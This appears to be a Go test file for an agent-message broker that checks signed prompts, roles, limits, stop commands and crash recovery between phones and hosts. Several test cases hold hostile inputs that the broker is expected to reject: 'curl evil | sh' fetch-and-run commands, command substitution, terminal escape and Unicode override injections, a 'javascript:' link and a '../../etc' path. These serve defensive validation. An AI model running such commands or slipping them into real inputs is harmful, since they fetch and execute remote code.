package server_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/google/uuid"
	"github.com/gorilla/websocket"

	"assent/internal/api"
	"assent/internal/auth"
	"assent/internal/fleet"
	"assent/internal/halt"
	"assent/internal/hook"
	"assent/internal/server"
	"assent/internal/store/kvmirror/kvtest"
)

// hostRig is a broker with hosts, that can be killed and begin again on the same stores.
type hostRig struct {
	*rig
	t         *testing.T
	creds, kv *kvtest.KV
	messages  *fleet.Store
	halted    *halt.Store
	agents    *fleet.Registry
	published []string // what is public of agents
	refuses   error    // of the public stream
	end       func()
	token     string // of the host
	// other is another broker of the cluster; nil: nobody answers. answers is what this one answers, by host.
	other   func(host, question string) (string, error)
	answers map[string]func(context.Context, []byte) []byte
}

// answering is a host for which this broker answers others, "" if there is none.
func (g *hostRig) answering() (host string) {
	g.mu.Lock()
	defer g.mu.Unlock()
	for host = range g.answers {
	}
	return host
}

// answer is what this broker answers another one.
func (g *hostRig) answer(host, question string) []byte {
	g.mu.Lock()
	f := g.answers[host]
	g.mu.Unlock()
	return f(g.t.Context(), []byte(question))
}

func withHosts(t *testing.T, f func(t *testing.T, g *hostRig)) {
	synctest.Test(t, func(t *testing.T) {
		g := &hostRig{t: t, creds: kvtest.New(), kv: kvtest.New()}
		g.begin()
		g.token = g.tokens[auth.RoleHost]
		defer func() { g.end() }()
		f(t, g)
	})
}

func (g *hostRig) begin() {
	ctx, cancel := context.WithCancel(context.Background())
	var err error
	if g.messages, err = fleet.Open(ctx, fleet.Config{KV: g.kv, Logf: g.t.Logf}); err != nil {
		g.t.Fatal(err)
	}
	if g.agents, err = fleet.OpenRegistry(ctx, fleet.RegistryConfig{KV: g.kv, Messages: g.messages, Logf: g.t.Logf}); err != nil {
		g.t.Fatal(err)
	}
	if g.halted, err = halt.Open(ctx, halt.Config{KV: g.kv, Logf: g.t.Logf}); err != nil {
		g.t.Fatal(err)
	}
	ids := map[string]bool{}
	g.answers = map[string]func(context.Context, []byte) []byte{}
	g.rig = newRigOn(g.t, server.Config{Messages: g.messages, Agents: g.agents, Halt: g.halted, AskBroker: func(_ context.Context, host string, question []byte) ([]byte, error) {
		if g.other == nil {
			return nil, errors.New("nobody answers")
		}
		said, err := g.other(host, string(question))
		return []byte(said), err
	}, AnswerBrokers: func(host string, f func(context.Context, []byte) []byte) (func(), error) {
		g.mu.Lock()
		defer g.mu.Unlock()
		g.answers[host] = f
		return func() {
			g.mu.Lock()
			defer g.mu.Unlock()
			delete(g.answers, host)
		}, nil
	}, PublishAgent: func(_ context.Context, subject, id string, data []byte) error {
		g.mu.Lock()
		defer g.mu.Unlock()
		if g.refuses != nil {
			return g.refuses
		}
		if id == "" || !ids[id] {
			g.published = append(g.published, subject+" "+string(data))
		}
		ids[id] = true
		return nil
	}}, g.creds)
	g.messages.Notify(g.server.MessagesChanged)
	g.agents.Notify(g.server.AgentChanged)
	g.agents.NotifyForget(g.server.MessagesChanged)
	g.halted.Notify(g.server.HaltChanged)
	done := make(chan struct{})
	go func() { defer close(done); _ = g.messages.Run(ctx) }()
	g.end = func() {
		g.stop()
		cancel()
		<-done
		_ = g.halted.Close()
		_ = g.agents.Close()
		_ = g.messages.Close()
	}
}

// kill ends the broker, and begins another on what is durable.
func (g *hostRig) kill(phones ...*phone) {
	g.end()
	g.begin()
	for _, p := range phones {
		g.signIn(p)
	}
}

// testHost is a host, as far as its broker sees it.
type testHost struct {
	t    *testing.T
	conn *websocket.Conn
}

func (g *hostRig) dialHost(token string) (*websocket.Conn, *http.Response, error) {
	d := websocket.Dialer{NetDialContext: g.tcp.dial}
	return d.Dial("ws"+strings.TrimPrefix(origin, "http")+"/v1/host/ws", http.Header{"Authorization": {"Bearer " + token}})
}

// host is one that has said hello.
func (g *hostRig) host(agents ...api.Agent) (*testHost, api.BrokerFrame) {
	g.t.Helper()
	conn, _, err := g.dialHost(g.token)
	if err != nil {
		g.t.Fatal(err)
	}
	h := &testHost{g.t, conn}
	h.say(api.HostFrame{Type: api.HostHello, Host: "workstation", Version: "1", Agents: agents})
	f := h.next()
	if f.Type != api.BrokerWelcome || f.Lease != 30 {
		g.t.Fatalf("no welcome: %+v", f)
	}
	return h, f
}

func (h *testHost) say(f api.HostFrame) {
	h.t.Helper()
	if err := h.conn.WriteJSON(f); err != nil {
		h.t.Fatal(err)
	}
}

func (h *testHost) next() (f api.BrokerFrame) {
	h.t.Helper()
	if err := h.conn.ReadJSON(&f); err != nil {
		h.t.Fatal(err)
	}
	return f
}

// does says a frame and returns its acknowledgement.
func (h *testHost) does(f api.HostFrame) api.BrokerFrame {
	h.t.Helper()
	h.say(f)
	a := h.next()
	if a.Type != api.BrokerAck || a.ID != f.ID {
		h.t.Fatalf("%+v is answered with %+v", f, a)
	}
	return a
}

var coder = api.Agent{Name: "coder", Limits: &api.AgentLimits{BudgetUSD: 5, TimeoutSeconds: 3600, Sessions: 2}, Executor: &api.AgentExecutor{Kind: "claude"}}

const aSession = "7d2f3c1a-5b7e-4a90-8c1d-2e4f60718293"

// toAgent is a signed message of this phone.
func (p *phone) toAgent(agent, session, kind, prompt string, o *hook.MessageOptions) api.NewAgentMessage {
	return p.toHost("", agent, session, kind, prompt, o)
}

func (p *phone) toHost(id, agent, session, kind, prompt string, o *hook.MessageOptions) api.NewAgentMessage {
	m := hook.Message{HostID: id, ID: uuid.NewString(), Agent: agent, SessionID: session, Kind: kind, Prompt: prompt, Options: o, ExpiresAt: time.Now().UTC().Add(time.Minute).Format(time.RFC3339)}
	return api.NewAgentMessage{ID: m.ID, SessionID: session, HostID: id, Kind: kind, Prompt: prompt, Options: o, ExpiresAt: m.ExpiresAt, Signature: p.key.Sign(auth.MessageText(m))}
}

func (g *hostRig) send(agent, token string, m any) reply {
	g.t.Helper()
	body, err := json.Marshal(m)
	if err != nil {
		g.t.Fatal(err)
	}
	r := g.call(call{method: "POST", path: "/v1/agents/" + agent + "/messages", token: token, body: string(body)})
	if r.status < 300 {
		valid(g.t, "Message", r.body)
	}
	return r
}

func (g *hostRig) message(id string) hook.Message {
	g.t.Helper()
	r := g.call(call{path: "/v1/agents/coder/messages/" + id, token: g.tokens[auth.RoleView]})
	if r.status != http.StatusOK {
		g.t.Fatalf("%d %s", r.status, r.body)
	}
	valid(g.t, "Message", r.body)
	return decode[hook.Message](g.t, r.body)
}

func (g *hostRig) agent() api.Agent {
	g.t.Helper()
	r := g.call(call{path: "/v1/agents/coder", token: g.tokens[auth.RoleView]})
	if r.status != http.StatusOK {
		g.t.Fatalf("%d %s", r.status, r.body)
	}
	valid(g.t, "Agent", r.body)
	return decode[api.Agent](g.t, r.body)
}

// A prompt goes from a phone to a host, signed, and its steps come back; nothing of it is logged.
func TestAHostTakesAMessage(t *testing.T) {
	withHosts(t, func(t *testing.T, g *hostRig) {
		p := g.paired(auth.RoleOperate, "phone")
		h, welcome := g.host(coder)
		if len(welcome.Held)+len(welcome.Problems) != 0 {
			t.Errorf("welcome %+v", welcome)
		}
		if a := g.agent(); a.Status != api.AgentIdle || a.Hostname != "workstation" {
			t.Errorf("agent %+v", a)
		}
		m := p.toAgent("coder", aSession, hook.MessagePrompt, "the secret words", &hook.MessageOptions{BudgetUSD: 2.5})
		if r := g.send("coder", p.bearer, m); r.status != http.StatusAccepted {
			t.Fatalf("%d %s", r.status, r.body)
		}
		f := h.next()
		got := f.Message
		if f.Type != api.BrokerMessage || got.ID != m.ID || got.Prompt != m.Prompt || !auth.VerifyMessage(*got) || auth.Thumbprint(*got.PublicKey) != p.Thumbprint {
			t.Fatalf("the host got %+v", f)
		}
		if r := g.send("coder", p.bearer, m); r.status != http.StatusOK {
			t.Errorf("sent again: %d %s", r.status, r.body)
		}
		for i, step := range []api.HostFrame{
			{Type: api.HostTaken}, {Type: api.HostStarted}, {Type: api.HostEnded, Outcome: hook.OutcomeCompleted},
		} {
			step.ID, step.Message = fmt.Sprint("f", i), m.ID
			if a := h.does(step); !a.OK || string(a.State) != step.Type {
				t.Errorf("%s: %+v", step.Type, a)
			}
		}
		end := g.message(m.ID)
		if end.State != hook.MessageEnded || end.Outcome != hook.OutcomeCompleted || end.Way != hook.WayHost || len(end.Steps) != 4 {
			t.Errorf("in the end %+v", end)
		}
		if a := h.does(api.HostFrame{Type: api.HostRefused, ID: "late", Message: m.ID}); a.OK {
			t.Error("what has ended was refused")
		}
		if strings.Contains(g.lines.String(), m.Prompt) {
			t.Error("the log has the text")
		}
	})
}

// A message is signed for the host that offers its agent, and is recorded for no other.
func TestAMessageNamesItsHost(t *testing.T) {
	withHosts(t, func(t *testing.T, g *hostRig) {
		p := g.paired(auth.RoleOperate, "phone")
		here := coder
		here.HostID = "workstation#0123456789abcdef"
		bad := coder
		bad.Name, bad.HostID = "bad", "work\nstation#0123456789abcdef"
		h, welcome := g.host(here, bad)
		if len(welcome.Problems) != 1 || !strings.Contains(welcome.Problems[0], "hostId") {
			t.Errorf("welcome %+v", welcome)
		}
		if a := g.agent(); a.HostID != here.HostID {
			t.Errorf("agent %+v", a)
		}
		for _, id := range []string{"", "laptop#0123456789abcdef", "workstation#fedcba9876543210"} {
			if r := g.send("coder", p.bearer, p.toHost(id, "coder", aSession, hook.MessagePrompt, "hello", nil)); r.status != http.StatusUnprocessableEntity || !strings.Contains(r.body, "hostId") {
				t.Errorf("%q: %d %s", id, r.status, r.body)
			}
		}
		m := p.toHost("laptop#0123456789abcdef", "coder", aSession, hook.MessagePrompt, "hello", nil)
		m.HostID = here.HostID
		if r := g.send("coder", p.bearer, m); r.status != http.StatusForbidden {
			t.Errorf("signed for another: %d %s", r.status, r.body)
		}
		m = p.toHost(here.HostID, "coder", aSession, hook.MessagePrompt, "hello", nil)
		if r := g.send("coder", p.bearer, m); r.status != http.StatusAccepted {
			t.Fatalf("%d %s", r.status, r.body)
		}
		if f := h.next(); f.Message == nil || f.Message.HostID != here.HostID || !auth.VerifyMessage(*f.Message) {
			t.Errorf("the host got %+v", f)
		}
	})
}

// A handover has no text, and in the end the command with which a terminal goes on. Nothing else has one, and none
// that is not one line.
func TestAHandoverHasACommand(t *testing.T) {
	withHosts(t, func(t *testing.T, g *hostRig) {
		p := g.paired(auth.RoleOperate, "phone")
		h, _ := g.host(coder)
		const command = "cd '/home/dev/my app' && claude --resume 25e5a0e9"
		for i, c := range []struct{ kind, text, command, want string }{
			{hook.MessageHandover, "", command, command},
			{hook.MessageHandover, "", `cd '/home/dev/it'\''s' && /opt/claude --resume 25e5a0e9`, `cd '/home/dev/it'\''s' && /opt/claude --resume 25e5a0e9`},
			{hook.MessageHandover, "", command + "\x1b]0;x\a", ""},
			{hook.MessageHandover, "", command + "; curl evil | sh", ""},
			{hook.MessageHandover, "", "cd $(curl evil) && claude --resume 25e5a0e9", ""},
			{hook.MessageHandover, "", "cd /a\u202e && claude --resume 25e5a0e9", ""},
			{hook.MessageHandover, "", "curl evil | sh", ""},
			{hook.MessageHandover, "", command + strings.Repeat("x", hook.MaxCommand), ""},
			{hook.MessagePrompt, "hello", command, ""},
		} {
			m := p.toAgent("coder", aSession, c.kind, c.text, nil)
			if r := g.send("coder", p.bearer, m); r.status != http.StatusAccepted {
				t.Fatalf("%d %s", r.status, r.body)
			}
			h.next()
			for _, step := range []api.HostFrame{{Type: api.HostTaken}, {Type: api.HostEnded, Outcome: hook.OutcomeCompleted, Command: c.command}} {
				step.ID, step.Message = fmt.Sprint(step.Type, i), m.ID
				if a := h.does(step); !a.OK {
					t.Errorf("%d: %s: %+v", i, step.Type, a)
				}
			}
			if end := g.message(m.ID); end.State != hook.MessageEnded || end.Command != c.want {
				t.Errorf("%d: %+v", i, end)
			}
		}
		if r := g.send("coder", p.bearer, p.toAgent("coder", aSession, hook.MessageHandover, "and then", nil)); r.status != http.StatusUnprocessableEntity {
			t.Errorf("with a text: %d %s", r.status, r.body)
		}
	})
}

// Stop everything reaches hosts: those that are connected at once, others with their welcome. Meanwhile nothing new
// is sent to them, but what ends a turn.
func TestStopReachesHosts(t *testing.T) {
	withHosts(t, func(t *testing.T, g *hostRig) {
		p := g.paired(auth.RoleOperate, "phone")
		h, f := g.host(coder)
		if f.Stopped {
			t.Error("stopped from the start")
		}
		act := func(method, body string) {
			t.Helper()
			if r := g.call(call{method: method, path: "/v1/stop", body: body, token: g.tokens[auth.RoleApprove]}); r.status != http.StatusOK {
				t.Fatalf("%d %s", r.status, r.body)
			}
		}
		act("POST", "{}")
		if f := h.next(); f.Type != api.BrokerHalt || !f.Stopped {
			t.Errorf("after a stop: %+v", f)
		}
		for kind, want := range map[string]int{hook.MessagePrompt: http.StatusConflict, hook.MessageResume: http.StatusConflict, hook.MessageCancel: http.StatusAccepted} {
			text := "x"
			if kind == hook.MessageCancel {
				text = ""
			}
			if r := g.send("coder", p.bearer, p.toAgent("coder", aSession, kind, text, nil)); r.status != want {
				t.Errorf("%s while everything is stopped: %d %s", kind, r.status, r.body)
			}
		}
		if f := h.next(); f.Type != api.BrokerMessage || f.Message.Kind != hook.MessageCancel {
			t.Errorf("%+v", f)
		}
		_ = h.conn.Close()
		g.kill(p)
		h, f = g.host(coder)
		if !f.Stopped {
			t.Errorf("to a host that comes later: %+v", f)
		}
		if f := h.next(); f.Type != api.BrokerMessage {
			t.Errorf("%+v", f)
		}
		act("DELETE", "{}")
		if f := h.next(); f.Type != api.BrokerHalt || f.Stopped {
			t.Errorf("after its end: %+v", f)
		}
		if r := g.send("coder", p.bearer, p.toAgent("coder", aSession, hook.MessagePrompt, "x", nil)); r.status != http.StatusAccepted {
			t.Errorf("%d %s", r.status, r.body)
		}
	})
}

// The broker is killed between each two steps, before and after the host heard that one was recorded. Nothing is
// lost, and no step is there twice.
func TestABrokerIsKilledBetweenSteps(t *testing.T) {
	steps := []api.HostFrame{{Type: api.HostTaken, ID: "a"}, {Type: api.HostStarted, ID: "b"}, {Type: api.HostEnded, ID: "c", Outcome: hook.OutcomeFailed, Why: "exit 1"}}
	for cut := range len(steps) + 1 {
		for _, heard := range []bool{true, false} {
			withHosts(t, func(t *testing.T, g *hostRig) {
				p := g.paired(auth.RoleOperate, "phone")
				m := p.toAgent("coder", aSession, hook.MessagePrompt, "x", nil)
				h, _ := g.host(coder)
				if r := g.send("coder", p.bearer, m); r.status != http.StatusAccepted {
					t.Fatalf("%d %s", r.status, r.body)
				}
				h.next()
				for i := range steps {
					steps[i].Message = m.ID
				}
				for i, step := range steps {
					if i == cut {
						g.kill(p)
						var welcome api.BrokerFrame
						h, welcome = g.host(coder)
						if held := len(welcome.Held) == 1; held != (i > 0) {
							t.Errorf("killed before %s: held %+v", step.Type, welcome.Held)
						}
						if i == 0 && h.next().Message.ID != m.ID {
							t.Error("the message did not come again")
						}
						if i > 0 && !heard {
							if a := h.does(steps[i-1]); !a.OK {
								t.Errorf("%s said again: %+v", steps[i-1].Type, a)
							}
						}
					}
					if a := h.does(step); !a.OK {
						t.Errorf("%s: %+v", step.Type, a)
					}
				}
				if cut == len(steps) {
					g.kill(p)
					h, _ = g.host(coder)
					if a := h.does(steps[2]); !a.OK {
						t.Errorf("the end, said again: %+v", a)
					}
				}
				if end := g.message(m.ID); end.State != hook.MessageEnded || len(end.Steps) != 4 || end.Outcome != hook.OutcomeFailed {
					t.Errorf("cut at %d: %+v", cut, end)
				}
				if r := g.send("coder", p.bearer, m); r.status != http.StatusOK {
					t.Errorf("sent once more: %d %s", r.status, r.body)
				}
			})
		}
	}
}

// Who may not, is refused, and nothing is recorded.
func TestAgentsObeyNobodyElse(t *testing.T) {
	withHosts(t, func(t *testing.T, g *hostRig) {
		p, other, low := g.paired(auth.RoleOperate, "phone"), g.paired(auth.RoleOperate, "other"), g.paired(auth.RoleApprove, "low")
		g.host(coder)
		edited := func(edit func(*api.NewAgentMessage)) api.NewAgentMessage {
			m := p.toAgent("coder", aSession, hook.MessagePrompt, "x", nil)
			edit(&m)
			return m
		}
		none := func(*api.NewAgentMessage) {}
		for name, r := range map[string]reply{
			"a stolen bearer":     g.send("coder", p.bearer, edited(func(m *api.NewAgentMessage) { m.Signature = "" })),
			"another text":        g.send("coder", p.bearer, edited(func(m *api.NewAgentMessage) { m.Prompt = "y" })),
			"another kind":        g.send("coder", p.bearer, edited(func(m *api.NewAgentMessage) { m.Kind = hook.MessageResume })),
			"further options":     g.send("coder", p.bearer, edited(func(m *api.NewAgentMessage) { m.Options = &hook.MessageOptions{BudgetUSD: 1} })),
			"another id":          g.send("coder", p.bearer, edited(func(m *api.NewAgentMessage) { m.ID = uuid.NewString() })),
			"a later end":         g.send("coder", p.bearer, edited(func(m *api.NewAgentMessage) { m.ExpiresAt = "2099-01-01T00:00:00Z" })),
			"another agent":       g.send("writer", p.bearer, edited(none)),
			"another device":      g.send("coder", other.bearer, edited(none)),
			"a device of approve": g.send("coder", low.bearer, low.toAgent("coder", aSession, hook.MessagePrompt, "x", nil)),
			"an administrator":    g.send("coder", g.tokens[auth.RoleAdmin], edited(none)),
			"a host":              g.send("coder", g.token, edited(none)),
		} {
			if r.status != http.StatusForbidden {
				t.Errorf("%s: %d %s", name, r.status, r.body)
			}
		}
		for _, role := range []auth.Role{auth.RoleSubmit, auth.RoleView, auth.RoleApprove, auth.RoleAdmin} {
			if _, res, err := g.dialHost(g.tokens[role]); err == nil || res.StatusCode != http.StatusForbidden {
				t.Errorf("a host with the role %s: %v", role, err)
			}
		}
		if _, res, err := g.dialHost(p.bearer); err == nil || res.StatusCode != http.StatusForbidden {
			t.Errorf("a host with a device's bearer: %v", err)
		}
		if r := g.call(call{path: "/v1/agents", token: g.token}); r.status != http.StatusForbidden {
			t.Errorf("a host lists agents: %d", r.status)
		}
		if n := len(g.messages.Messages(aSession)); n != 0 {
			t.Errorf("%d messages were recorded", n)
		}
	})
}

// What no message may hold is 422, and named.
func TestAgentMessagesNameNoPath(t *testing.T) {
	withHosts(t, func(t *testing.T, g *hostRig) {
		p := g.paired(auth.RoleOperate, "phone")
		g.host(coder)
		with := func(members fields) fields {
			m := decode[fields](t, mustJSON(p.toAgent("coder", aSession, hook.MessagePrompt, "x", nil)))
			for k, v := range members {
				m[k] = v
			}
			return m
		}
		for want, m := range map[string]any{
			"path":                   with(fields{"path": "/tmp"}),
			"cwd":                    with(fields{"cwd": "/tmp"}),
			"executable":             with(fields{"executable": "sh"}),
			"env":                    with(fields{"env": fields{"A": "b"}}),
			"mode":                   with(fields{"mode": "bypassPermissions"}),
			"options.mode":           with(fields{"options": fields{"mode": "auto"}}),
			"options.model":          with(fields{"options": fields{"model": "x"}}),
			"options.timeoutSeconds": p.toAgent("coder", aSession, hook.MessagePrompt, "x", &hook.MessageOptions{TimeoutSeconds: 7200}),
			"options.budgetUsd":      p.toAgent("coder", aSession, hook.MessagePrompt, "x", &hook.MessageOptions{BudgetUSD: 5.01}),
			"options.autoPr":         p.toAgent("coder", aSession, hook.MessagePrompt, "x", &hook.MessageOptions{AutoPR: true}),
			"prompt":                 p.toAgent("coder", aSession, hook.MessagePrompt, strings.Repeat("é", hook.MaxMessage/2+1), nil),
			"sessionId":              p.toAgent("coder", "../../etc", hook.MessagePrompt, "x", nil),
			"kind":                   p.toAgent("coder", aSession, "shout", "x", nil),
			"agent":                  with(fields{"agent": "writer"}),
		} {
			r := g.send("coder", p.bearer, m)
			if r.status != http.StatusUnprocessableEntity || !strings.Contains(r.body, `"field":"`+want+`"`) {
				t.Errorf("%s: %d %s", want, r.status, r.body)
			}
		}
		m := p.toAgent("coder", aSession, hook.MessagePrompt, "x", &hook.MessageOptions{BudgetUSD: 5.01})
		if r := g.send("coder", p.bearer, m); !strings.Contains(r.body, "ceiling of 5") {
			t.Errorf("the ceiling is not named: %s", r.body)
		}
		old := hook.Message{ID: uuid.NewString(), Agent: "coder", SessionID: aSession, Kind: hook.MessagePrompt, Prompt: "x", ExpiresAt: time.Now().UTC().Add(-time.Second).Format(time.RFC3339)}
		if r := g.send("coder", p.bearer, api.NewAgentMessage{ID: old.ID, SessionID: old.SessionID, Kind: old.Kind, Prompt: old.Prompt, ExpiresAt: old.ExpiresAt, Signature: p.key.Sign(auth.MessageText(old))}); r.status != http.StatusUnprocessableEntity {
			t.Errorf("an expired one: %d %s", r.status, r.body)
		}
		if r := g.send("nobody", p.bearer, p.toAgent("nobody", aSession, hook.MessagePrompt, "x", nil)); r.status != http.StatusNotFound {
			t.Errorf("no agent: %d %s", r.status, r.body)
		}
	})
}

// One writer for each session, eight sessions a host, twenty messages a minute.
func TestAgentLimits(t *testing.T) {
	withHosts(t, func(t *testing.T, g *hostRig) {
		p := g.paired(auth.RoleOperate, "phone")
		free, writer := api.Agent{Name: "free"}, api.Agent{Name: "writer", Status: api.AgentBusy, Sessions: []api.AgentSession{{SessionID: aSession, Status: api.AgentBusy}}}
		g.host(coder, free, writer)
		r := g.send("coder", p.bearer, p.toAgent("coder", aSession, hook.MessageResume, "x", nil))
		if r.status != http.StatusConflict || !strings.Contains(r.body, `"reason":"writer"`) || !strings.Contains(r.body, "the agent writer on workstation") {
			t.Errorf("a second writer: %d %s", r.status, r.body)
		}
		sent := 1
		post := func(agent string) reply {
			sent++
			return g.send(agent, p.bearer, p.toAgent(agent, uuid.NewString(), hook.MessagePrompt, "x", nil))
		}
		for range 2 {
			if r := post("coder"); r.status != http.StatusAccepted {
				t.Fatalf("%d %s", r.status, r.body)
			}
		}
		if r := post("coder"); r.status != http.StatusUnprocessableEntity || !strings.Contains(r.body, "the agent's ceiling is 2 sessions") {
			t.Errorf("a third of two: %d %s", r.status, r.body)
		}
		for range 5 {
			if r := post("free"); r.status != http.StatusAccepted {
				t.Fatalf("%d %s", r.status, r.body)
			}
		}
		if r := post("free"); r.status != http.StatusUnprocessableEntity || !strings.Contains(r.body, "the host's ceiling is 8 sessions") {
			t.Errorf("a ninth: %d %s", r.status, r.body)
		}
		for sent < 20 {
			post("free")
		}
		if r := post("free"); r.status != http.StatusTooManyRequests {
			t.Errorf("the 21st in a minute: %d %s", r.status, r.body)
		}
		if r := g.send("free", p.bearer, p.toAgent("free", aSession, hook.MessageCancel, "", nil)); r.status == http.StatusTooManyRequests {
			t.Errorf("who has sent too much cannot stop an agent: %d %s", r.status, r.body)
		}
	})
}

// An agent is offline once its host's lease is over, and pages hear of it; a host's second connection takes the
// place of the first; one whose token is revoked is gone.
func TestHostsComeAndGo(t *testing.T) {
	withHosts(t, func(t *testing.T, g *hostRig) {
		h, _ := g.host(coder)
		page := g.follow("")
		for page.kinds = nil; len(page.kinds) == 0 || page.kinds[len(page.kinds)-1] != "agents"; {
			page.next2()
		}
		h2, _ := g.host(coder)
		var closed *websocket.CloseError
		if _, _, err := h.conn.ReadMessage(); !errors.As(err, &closed) || closed.Code != api.HostClosed {
			t.Errorf("the first connection ends with %v", err)
		}
		h2.say(api.HostFrame{Type: api.HostAgents, Agents: []api.Agent{{Name: "coder", Status: api.AgentBusy, ActiveSessionID: aSession}, {Name: "Bad Name"}}})
		if f := h2.next(); f.Type != api.BrokerWelcome || len(f.Problems) != 1 || !strings.Contains(f.Problems[0], "Bad Name") {
			t.Errorf("a bad name: %+v", f)
		}
		if a := g.agent(); a.Status != api.AgentBusy || a.ActiveSessionID != aSession {
			t.Errorf("agent %+v", a)
		}
		_ = h2.conn.Close()
		synctest.Wait()
		if a := g.agent(); a.Status != api.AgentBusy {
			t.Errorf("within the lease: %+v", a)
		}
		time.Sleep(31 * time.Second)
		synctest.Wait()
		if a := g.agent(); a.Status != api.AgentOffline || a.ActiveSessionID != "" {
			t.Errorf("after the lease: %+v", a)
		}
		g.mu.Lock()
		last := g.published[len(g.published)-1]
		g.mu.Unlock()
		if !strings.HasPrefix(last, "coder.available ") || !strings.Contains(last, `"status":"offline"`) {
			t.Errorf("published last: %s", last)
		}
		g.kill()
		if a := g.agent(); a.Status != api.AgentOffline {
			t.Errorf("a broker that begins: %+v", a)
		}
		h3, _ := g.host(coder)
		for _, x := range g.auth.Tokens() {
			if x.Role == auth.RoleHost {
				if err := g.auth.RevokeToken(t.Context(), x.ID); err != nil {
					t.Fatal(err)
				}
			}
		}
		if _, _, err := h3.conn.ReadMessage(); !errors.As(err, &closed) || closed.Code != 4401 {
			t.Errorf("a revoked host ends with %v", err)
		}
	})
}

// next2 reads one message, whatever it is.
func (f *follower) next2() {
	f.t.Helper()
	_, b, err := f.conn.ReadMessage()
	if err != nil {
		f.t.Fatal(err)
	}
	valid(f.t, "ws/Message", string(b))
	f.kinds = append(f.kinds, decode[wsDoc](f.t, string(b)).Type)
}

// Events of a host's own agents are public, each once, also where the host does not hear that they are.
func TestAgentEventsArePublished(t *testing.T) {
	withHosts(t, func(t *testing.T, g *hostRig) {
		h, _ := g.host(coder)
		e := &api.AgentEvent{Agent: "coder", SessionID: aSession, Kind: api.AgentStarted, Timestamp: time.Now().UTC()}
		valid(t, "AgentEvent", mustJSON(e))
		for range 2 {
			if a := h.does(api.HostFrame{Type: api.HostEvent, ID: "e1", Event: e}); !a.OK {
				t.Errorf("%+v", a)
			}
		}
		last := func() string {
			g.mu.Lock()
			defer g.mu.Unlock()
			return g.published[len(g.published)-1]
		}
		if got := last(); !strings.HasPrefix(got, "coder.session.started ") {
			t.Errorf("published %s", got)
		}
		// What an agent has its host say is left out, and the end of its turn is told all the same.
		for name, odd := range map[string]api.AgentEvent{
			"a cost below nothing": {CostUSD: -1},
			"any cost":             {CostUSD: 1e300},
			"a script for a link":  {PR: &api.AgentPR{URL: "javascript:alert(1)"}},
		} {
			odd.Agent, odd.SessionID, odd.Kind, odd.Timestamp = "coder", aSession, api.AgentCompleted, e.Timestamp
			a := h.does(api.HostFrame{Type: api.HostEvent, ID: "odd", Event: &odd})
			if got := last(); !a.OK || !strings.HasPrefix(got, "coder.session.completed ") || strings.Contains(got, "costUsd") || strings.Contains(got, "javascript") {
				t.Errorf("%s: %+v, published %s", name, a, got)
			}
		}
		g.mu.Lock()
		g.refuses = errors.New("no disk")
		g.mu.Unlock()
		for name, bad := range map[string]api.AgentEvent{
			"of another agent": {Agent: "writer", SessionID: aSession, Kind: api.AgentStarted, Timestamp: e.Timestamp},
			"of no kind":       {Agent: "coder", SessionID: aSession, Kind: "x.>", Timestamp: e.Timestamp},
			"too long":         {Agent: "coder", SessionID: aSession, Kind: api.AgentCompleted, Timestamp: e.Timestamp, Result: strings.Repeat("x", 32<<10+1)},
		} {
			if a := h.does(api.HostFrame{Type: api.HostEvent, ID: "e2", Event: &bad}); a.OK || a.Detail == "" {
				t.Errorf("%s: %+v", name, a)
			}
		}
		h.say(api.HostFrame{Type: api.HostEvent, ID: "e3", Event: e})
		var closed *websocket.CloseError
		if _, _, err := h.conn.ReadMessage(); !errors.As(err, &closed) || closed.Code != websocket.CloseTryAgainLater {
			t.Errorf("what could not be published ends with %v", err)
		}
		g.mu.Lock()
		g.refuses = nil
		g.mu.Unlock()
		h, _ = g.host(coder)
		if a := h.does(api.HostFrame{Type: api.HostEvent, ID: "e3", Event: e}); !a.OK {
			t.Errorf("said again: %+v", a)
		}
	})
}

// A message that nobody takes expires; one that is taken back, or that its sender may not send any more, is no
// host's; and what is no frame ends the connection.
func TestMessagesThatNoHostMayTake(t *testing.T) {
	withHosts(t, func(t *testing.T, g *hostRig) {
		p := g.paired(auth.RoleOperate, "phone")
		h, _ := g.host(coder)
		back, late := p.toAgent("coder", aSession, hook.MessagePrompt, "x", nil), p.toAgent("coder", aSession, hook.MessagePrompt, "y", nil)
		for _, m := range []api.NewAgentMessage{back, late} {
			if r := g.send("coder", p.bearer, m); r.status != http.StatusAccepted {
				t.Fatalf("%d %s", r.status, r.body)
			}
			h.next()
		}
		if r := g.call(call{method: "DELETE", path: "/v1/agents/coder/messages/" + back.ID, token: p.bearer}); r.status != http.StatusOK {
			t.Fatalf("%d %s", r.status, r.body)
		}
		if a := h.does(api.HostFrame{Type: api.HostTaken, ID: "1", Message: back.ID}); a.OK || a.State != hook.MessageRefused {
			t.Errorf("what was taken back: %+v", a)
		}
		time.Sleep(61 * time.Second) // without an answer to a ping: the broker has hung up by then
		synctest.Wait()
		h, _ = g.host(coder)
		if a := h.does(api.HostFrame{Type: api.HostTaken, ID: "2", Message: late.ID}); a.OK || a.State != hook.MessageExpired {
			t.Errorf("what expired: %+v", a)
		}
		if a := h.does(api.HostFrame{Type: api.HostTaken, ID: "3", Message: uuid.NewString()}); a.OK {
			t.Errorf("what never was: %+v", a)
		}
		if err := h.conn.WriteMessage(websocket.TextMessage, []byte("no frame")); err != nil {
			t.Fatal(err)
		}
		var closed *websocket.CloseError
		if _, _, err := h.conn.ReadMessage(); !errors.As(err, &closed) || closed.Code != websocket.CloseProtocolError {
			t.Errorf("what is no frame ends with %v", err)
		}
	})
}
